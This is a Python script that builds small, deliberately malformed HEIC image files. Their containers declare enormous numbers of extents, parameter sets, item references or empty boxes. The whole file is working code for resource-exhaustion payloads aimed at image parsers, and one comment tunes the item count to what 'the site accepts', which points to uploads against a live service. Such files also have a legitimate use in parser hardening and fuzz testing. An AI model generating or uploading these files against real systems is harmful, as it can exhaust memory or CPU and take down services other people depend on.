"""Make small HEIC files whose containers state very much."""

import struct

HEADER = b"\0\0\0\x10ftypheic\0\0\0\0"
ITEM_COUNT = 256  # as many as the site accepts
# A size of 8 × 8, as the property of an image, and as a sequence parameter set.
SIZE = bytes(4) + struct.pack(">II", 8, 8)
SPS_BITS = "0" * 104 + "1010" + "0001001" * 2 + "0111" + "00"


def box(kind, content):
    return struct.pack(">I", 8 + len(content)) + kind + content


def full_box(kind, content, version=0):
    return box(kind, struct.pack(">I", version << 24) + content)


def container(count, locations, properties=b"", associations=b"", references=b""):
    """Return a file of `count` images without their bytes."""
    images = (full_box(b"infe", struct.pack(">HH", i + 1, 0) + b"hvc1\0", 2) for i in range(count))
    ipma = full_box(b"ipma", struct.pack(">I", count if associations else 0) + associations)
    meta = (
        full_box(b"pitm", struct.pack(">H", 1))
        + full_box(b"iinf", struct.pack(">H", count) + b"".join(images))
        + full_box(b"iloc", locations)
        + box(b"iprp", box(b"ipco", properties) + ipma)
        + references
    )
    return HEADER + full_box(b"meta", meta)


def heic_of_empty_extents():
    """Each image states 65,535 extents, which take no bytes of the file."""
    extents = b"".join(struct.pack(">HHH", i + 1, 0, 65535) for i in range(ITEM_COUNT))
    return container(ITEM_COUNT, struct.pack(">HH", 0, ITEM_COUNT) + extents)


def heic_of_parameters():
    """All images share tens of thousands of parameter sets."""
    sps = bytes((0x42, 1)) + int(SPS_BITS, 2).to_bytes(len(SPS_BITS) // 8)
    units = 37_000
    vps = bytes([32]) + struct.pack(">H", units) + b"\0\1\x40" * units
    configuration = b"\1" + bytes(20) + b"\xff\2" + vps + bytes([33])
    configuration += struct.pack(">HH", 1, len(sps)) + sps
    properties = box(b"ispe", SIZE) + box(b"hvcC", configuration)
    associations = b"".join(struct.pack(">HBBB", i + 1, 2, 1, 2) for i in range(ITEM_COUNT))
    stream = struct.pack(">I3B", 3, 0x26, 1, 0x80)

    def file(start):
        extents = (
            struct.pack(">HHHII", i + 1, 0, 1, start + i * len(stream), len(stream))
            for i in range(ITEM_COUNT)
        )
        locations = struct.pack(">HH", 0x4400, ITEM_COUNT) + b"".join(extents)
        return container(ITEM_COUNT, locations, properties, associations)

    return file(len(file(0)) + 8) + box(b"mdat", stream * ITEM_COUNT)


def heic_of_references():
    """An image of many extents is the metadata of many other things."""
    extents, references = 60_000, 5_000
    locations = struct.pack(">HHHHH", 0x0100, 1, 1, 0, extents) + b"\1" * extents
    described = box(b"cdsc", struct.pack(">HH", 1, 0)) * references
    return container(
        1,
        locations,
        box(b"ispe", SIZE),
        struct.pack(">HBB", 1, 1, 1),
        full_box(b"iref", described),
    ) + box(b"mdat", bytes(extents))


def heic_of_empty_boxes():
    return HEADER + box(b"free", b"") * 1_200_000
